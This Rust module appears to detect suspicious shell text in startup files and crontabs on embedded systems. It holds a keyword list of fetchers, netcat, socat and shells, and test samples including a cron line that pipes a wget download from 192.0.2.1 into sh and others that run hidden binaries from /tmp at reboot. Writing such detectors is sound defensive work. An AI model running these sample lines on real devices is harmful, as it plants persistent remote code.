//! Shell inside something else: a text that a line writes to a file, or hands to an interpreter, and what it runs.

use super::commands::is_starter;
use super::place::is_odd_program;
use super::text::{basename, fields, is_one_of};

/// Whether a text that becomes part of a startup file runs something from an odd place, or fetches something for a shell.
#[must_use]
pub fn is_odd_text(text: &[u8]) -> bool {
    let (odd, fetches) = text_runs(text);
    odd || fetches
}

/// Whether a text that is written into a script does nothing that matters here: programs by their names or from a system
/// place, none of which fetches, runs a text, opens the machine or changes it, and nothing from an odd place.
#[must_use]
pub fn is_plain(text: &[u8]) -> bool {
    const MATTER: &[u8] = b"wget curl tftp ftpget uclient-fetch nc ncat netcat socat telnetd utelnetd dropbear sshd sh \
        ash bash dash ksh . source eval exec python python3 perl lua php awk find busybox base64 openssl xxd iptables \
        ip6tables nft insmod modprobe mount kill killall pkill dd mv ln chmod sed tee crontab uci nvram printf alias trap";
    if text.starts_with(b"#!") {
        return true;
    }
    text.split(|b| b"\n;&|`()".contains(b)).all(|part| {
        let program = fields(part).find(|word| !is_starter(word)).unwrap_or_default();
        let odd = |word| is_odd_program(word);
        let plain = program.first().is_none_or(|b| b.is_ascii_alphabetic() || b"/-[12>".contains(b));
        plain && !is_one_of(basename(program), MATTER) && !fields(part).any(odd)
    })
}

/// Whether a text that is likely shell, or holds some, runs something from an odd place, and whether it fetches something
/// for a shell.
#[must_use]
pub fn text_runs(text: &[u8]) -> (bool, bool) {
    const FETCHERS: [&[u8]; 5] = [b"wget", b"curl", b"tftp", b"ftpget", b"uclient-fetch"];
    const SHELLS: [&[u8]; 6] = [b"sh", b"ash", b"bash", b".", b"source", b"eval"];
    let (mut odd, mut fetches, mut shell) = (false, false, false);
    for part in text.split(|b| b"\n;&|`()".contains(b)) {
        let mut at_program = true;
        for word in fields(part) {
            let quote = |b: &u8| matches!(b, b'"' | b'\'');
            let from = word.iter().position(|b| !quote(b)).unwrap_or(word.len());
            let to = word.iter().rposition(|b| !quote(b)).map_or(from, |last| last.saturating_add(1));
            let word = word.get(from..to).unwrap_or_default();
            // What stands before a command: flags of sed, the fields of a crontab, a user, what starts another.
            let schedule = word.iter().all(|b| b.is_ascii_digit() || b"*/,-".contains(b));
            let before = schedule || matches!(word.first(), Some(b'-' | b'@')) || word == b"root";
            let runs = SHELLS.contains(&basename(word));
            at_program |= schedule && word.contains(&b'*');
            shell |= at_program && runs;
            if at_program && !before && !runs && !is_starter(word) {
                at_program = false;
                odd |= is_odd_program(word);
                fetches |= FETCHERS.contains(&basename(word));
            }
        }
    }
    (odd, fetches && shell)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn texts_that_run_something_odd() {
        for text in [
            &b"* * * * * /tmp/x"[..],
            b"@reboot /var/run/.x/y >/dev/null 2>&1",
            b"*/5 * * * * root /dev/shm/x",
            b"sh /tmp/x &",
            b"#!/bin/sh\n/tmp/x &\n",
            b"* * * * * wget -q -O - http://192.0.2.1/x.sh | sh",
            b"a x '* * * * * nohup /tmp/x' ",
            b"cd /; sh -c '/tmp/x'",
        ] {
            assert!(is_odd_text(text), "{}", String::from_utf8_lossy(text));
        }
        for text in [
            &b"0 4 * * * /usr/bin/x >/tmp/x.log"[..],
            b"*/5 * * * * /etc/init.d/ddns reload",
            b"echo 1 > /tmp/flag",
            b"0 5 * * * wget -qO /tmp/list http://192.0.2.1/x && /etc/init.d/adblock reload",
            b"[ -f /tmp/x ] && /usr/bin/y",
            b"sh /usr/share/x.sh",
            b"/mnt/sda1/x",
        ] {
            assert!(!is_odd_text(text), "{}", String::from_utf8_lossy(text));
        }
    }
}
